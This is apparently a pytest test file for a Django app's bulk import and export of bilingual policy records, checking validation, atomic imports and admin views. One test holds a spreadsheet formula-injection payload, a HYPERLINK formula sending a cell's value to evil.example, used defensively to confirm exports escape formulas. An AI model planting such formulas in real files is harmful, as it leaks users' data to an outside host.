"""Bulk import and export of policies: codes for districts and sectors, criteria in one
cell, errors reported for every bad row, and nothing imported when any row is bad."""

import csv
import io

import pytest
import tablib
from django.contrib.admin.sites import site
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from import_export.formats.base_formats import CSV

from core.models import Notification
from policies import services
from policies.models import Criterion, Policy
from policies.resources import PolicyResource

from .conftest import published_policy

pytestmark = pytest.mark.django_db

HEADER = [
    "id",
    "title_zh",
    "title_en",
    "summary_zh",
    "summary_en",
    "district",
    "document_number",
    "category",
    "sectors",
    "benefit_amount",
    "effective_from",
    "expires_on",
    "criteria",
    "status",
]


def row(**values):
    base = {
        "id": "",
        "title_zh": "浦东新区人才公寓",
        "title_en": "Pudong talent apartments",
        "summary_zh": "人才公寓",
        "summary_en": "Talent apartments",
        "district": "pudong",
        "document_number": "浦府规〔2025〕1号",
        "category": "housing",
        "sectors": "integrated-circuits,biopharmaceuticals",
        "benefit_amount": "72000",
        "effective_from": "2025-01-01",
        "expires_on": "2027-12-31",
        "criteria": "min_degree=master; returned_within=5; max_age=45; "
        "sector=integrated-circuits; company_district=pudong; note=社保满六个月|Six months "
        "of social insurance",
        "status": "published",
    }
    base.update(values)
    return [base[column] for column in HEADER]


def csv_text(*rows) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    writer.writerows(rows)
    return out.getvalue()


def dataset(*rows) -> tablib.Dataset:
    return tablib.Dataset().load(csv_text(*rows), format="csv")


@pytest.fixture
def reference(pudong, qingpu, chips, biopharma):
    return None


def test_good_rows_are_imported_as_drafts_with_their_criteria(reference, admin_user):
    result = PolicyResource().import_data(
        dataset(row(), row(title_en="Qingpu grant", district="qingpu", criteria="")),
        dry_run=False,
        user=admin_user,
    )
    assert not result.has_errors() and not result.has_validation_errors()
    assert Policy.objects.count() == 2
    policy = Policy.objects.get(title_en="Pudong talent apartments")
    assert policy.status == "draft"  # `status` is never imported
    assert policy.district.code == "pudong"
    assert sorted(policy.sectors.values_list("code", flat=True)) == [
        "biopharmaceuticals",
        "integrated-circuits",
    ]
    assert [criterion.kind for criterion in policy.criteria.all()] == [
        "min_degree",
        "returned_within",
        "max_age",
        "sector",
        "company_district",
        "note",
    ]
    note = policy.criteria.get(kind="note")
    assert (note.note_zh, note.note_en) == ("社保满六个月", "Six months of social insurance")


@pytest.mark.parametrize(
    ("bad", "field", "message"),
    [
        ({"district": "atlantis"}, "district", "Unknown district code “atlantis”"),
        ({"sectors": "alchemy"}, "sectors", "Unknown sector code “alchemy”"),
        ({"criteria": "max_age=200"}, "criteria", "Enter an age limit between 16 and 120."),
        ({"criteria": "overseas_years=-1"}, "criteria", "Enter between 1 and 50 years"),
        ({"criteria": "min_degree=wizard"}, "criteria", "Unknown degree level “wizard”"),
        ({"criteria": "max_age"}, "criteria", "Write each criterion as kind=value"),
        ({"title_zh": "", "title_en": ""}, "title_en", "Give the policy a title"),
        ({"category": "lottery"}, "category", "is not a valid choice"),
        ({"expires_on": "2020-01-01"}, "expires_on", "The expiry date is before"),
        ({"id": "987654"}, "id", "No policy has the id “987654”"),
        ({"id": "abc"}, "id", "No policy has the id “abc”"),
    ],
)
def test_one_bad_row_and_nothing_is_imported(reference, admin_user, bad, field, message):
    result = PolicyResource().import_data(
        dataset(row(), row(**{"title_en": "Second", **bad}), row(title_en="Third")),
        dry_run=False,
        user=admin_user,
    )
    assert Policy.objects.count() == 0
    assert Criterion.objects.count() == 0
    invalid = result.invalid_rows
    assert [item.number for item in invalid] == [2]
    assert not result.has_errors()  # reported as the row's problem, not a crash
    errors = invalid[0].error_dict
    assert field in errors, errors
    assert any(message in str(error) for error in errors[field])


def test_export_round_trips_the_criteria(reference, admin_user, pudong, chips):
    policy = published_policy(
        user=admin_user,
        district=pudong,
        title_en="Exported",
        sectors=[chips],
        rules=[
            {"kind": "min_degree", "degree": "master"},
            {"kind": "sector", "sectors": [chips]},
            {"kind": "note", "note_zh": "中文", "note_en": "English"},
        ],
    )
    resource = PolicyResource()
    exported = resource.export(resource.filter_export(Policy.objects.all()))
    record = dict(zip(exported.headers, exported[0], strict=True))
    assert record["district"] == "pudong"
    assert record["sectors"] == "integrated-circuits"
    assert record["criteria"] == (
        "min_degree=master; sector=integrated-circuits; note=中文|English"
    )
    assert record["status"] == "published" and record["version"] == 1
    assert str(record["id"]) == str(policy.pk)


def test_importing_a_change_to_a_published_policy_publishes_a_version(
    reference, admin_user, pudong, li_wen
):
    policy = published_policy(user=admin_user, district=pudong, title_en="Before")
    services.policy_follow(user=li_wen, policy=policy)
    result = PolicyResource().import_data(
        dataset(row(id=str(policy.pk), title_en="After", criteria="max_age=45")),
        dry_run=False,
        user=admin_user,
    )
    assert not result.has_errors() and not result.has_validation_errors()
    policy.refresh_from_db()
    assert policy.title_en == "After" and policy.status == "published"
    assert policy.versions.count() == 2
    notice = Notification.objects.get(recipient=li_wen)
    assert notice.template == "policy_updated"


def test_a_dry_run_imports_nothing(reference, admin_user):
    PolicyResource().import_data(dataset(row()), dry_run=True, user=admin_user)
    assert not Policy.objects.exists()


# Through the admin -----------------------------------------------------------------------


@pytest.fixture
def admin_client(client, admin_user):
    client.force_login(admin_user)
    return client


def csv_format_index() -> str:
    formats = site._registry[Policy].get_import_formats()
    return str(next(index for index, fmt in enumerate(formats) if fmt is CSV))


def upload(text: str) -> SimpleUploadedFile:
    return SimpleUploadedFile("policies.csv", text.encode("utf-8"), content_type="text/csv")


def test_the_admin_import_reports_row_errors_and_imports_nothing(reference, admin_client):
    response = admin_client.post(
        reverse("admin:policies_policy_import"),
        {
            "import_file": upload(csv_text(row(), row(criteria="max_age=999"))),
            "format": csv_format_index(),
        },
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "Enter an age limit between 16 and 120." in html
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    assert not Policy.objects.exists()


def test_the_admin_import_then_confirm(reference, admin_client):
    response = admin_client.post(
        reverse("admin:policies_policy_import"),
        {"import_file": upload(csv_text(row())), "format": csv_format_index()},
    )
    assert response.status_code == 200
    confirm = response.context["confirm_form"]
    assert confirm is not None
    assert not Policy.objects.exists()  # the first step is a dry run
    response = admin_client.post(reverse("admin:policies_policy_process_import"), confirm.initial)
    assert response.status_code == 302
    assert Policy.objects.get().title_en == "Pudong talent apartments"


@pytest.mark.filterwarnings("ignore:The 'get_valid_export_item_pks:DeprecationWarning")
def test_the_admin_export(reference, admin_client, admin_user, pudong):
    published_policy(user=admin_user, district=pudong, title_en="Exported")
    fields = {f"policyresource_{name}": "on" for name in PolicyResource().get_export_order()}
    response = admin_client.post(
        reverse("admin:policies_policy_export"),
        {
            "format": csv_format_index(),
            "resource": "0",
            "export_items": list(Policy.objects.values_list("pk", flat=True)),
            **fields,
        },
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = response.content.decode("utf-8")
    assert "Exported" in content and "criteria" in content


FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Open agenda")'


@pytest.mark.filterwarnings("ignore:The 'get_valid_export_item_pks:DeprecationWarning")
def test_the_admin_export_writes_a_formula_as_text_and_an_import_reads_it_back(
    reference, admin_client, admin_user, pudong
):
    published_policy(user=admin_user, district=pudong, title_en=FORMULA, title_zh="@SUM(1+1)")
    fields = {f"policyresource_{name}": "on" for name in PolicyResource().get_export_order()}
    response = admin_client.post(
        reverse("admin:policies_policy_export"),
        {
            "format": csv_format_index(),
            "resource": "0",
            "export_items": list(Policy.objects.values_list("pk", flat=True)),
            **fields,
        },
    )
    record = next(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert record["title_en"] == "'" + FORMULA
    assert record["title_zh"] == "'@SUM(1+1)"

    result = PolicyResource().import_data(
        dataset(row(title_en="'" + FORMULA, title_zh="'-1")), dry_run=False
    )
    assert not result.has_errors()
    imported = Policy.objects.get(title_zh="-1")
    assert imported.title_en == FORMULA  # as typed, escaped again by the next export


def test_the_admin_import_offers_only_the_documented_formats(admin_client):
    page = admin_client.get(reverse("admin:policies_policy_import"))
    choices = [label for value, label in page.context["form"].fields["format"].choices if value]
    assert [label.lower() for label in choices] == ["csv", "xlsx"]
    response = admin_client.post(
        reverse("admin:policies_policy_import"),
        {"import_file": upload("<table><tr><td>x</td></tr></table>"), "format": "2"},
    )
    assert response.status_code == 200  # a form error, not a 500
    assert not Policy.objects.exists()
